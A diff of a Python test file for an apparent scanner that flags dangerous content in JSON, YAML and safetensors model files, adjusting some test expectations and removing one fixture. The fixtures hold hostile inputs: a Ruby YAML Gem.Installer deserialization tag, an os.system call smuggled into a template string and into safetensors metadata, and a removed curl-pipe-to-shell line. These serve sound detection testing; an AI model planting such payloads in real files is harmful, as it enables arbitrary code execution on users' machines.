@@ -55,7 +55,7 @@ def list_references(reading):
         ("a.json", '{"hidden_size": -2}', ("size", "hidden_size")),
         ("a.json", json.dumps({"hidden_size": "9" * 350}), ("size", "hidden_size")),
         ("a.json", json.dumps({"hidden_size": "9" * 5000}), ("size", "hidden_size")),
-        ("a.yaml", "a: !<tag:ruby.yaml.org,2002:object:Gem.Installer> x\n", ("ruby", "object:Gem.Installer")),
+        ("a.yaml", "a: !<tag:ruby.yaml.org,2002:object:Gem.Installer> x\n", ("ruby", "Gem.Installer")),
         (
             "a.json",
             "{\"a\": \"${__import__('os').system('id')}\"}",
@@ -148,7 +148,6 @@ def test_files_beyond_the_bound_are_reported_as_unread(read_bytes, path, content
     "content",
     [
         {"a": ["$f(1)"] * 2001},
-        {"a": "curl $x", "run": [f"curl http://e/{number} | sh" for number in range(2001)]},
         {"a": "curl $x", "run": "true " * 50_000},
         {"a": "curl $x", "run": "a; " * 50_001},
     ],
@@ -162,7 +161,7 @@ def test_interpolations_of_a_long_text_are_cut_short():
     assert len(resolve_interpolations("${a}" * 250, values)) <= 250 * 1000
 
 
-def test_texts_in_safetensors_metadata_are_analyzed(read_bytes):
+def test_texts_in_safetensors_metadata_are_analysed(read_bytes):
     header = json.dumps({"__metadata__": {"a b": '{"_target_": "os.system"}', "format": "pt"}}).encode()
     reading = read_bytes(len(header).to_bytes(8, "little") + header, "m.safetensors")
     paths = {path for path, each in reading.structures if isinstance(each, Outline) and each.format == "configuration"}
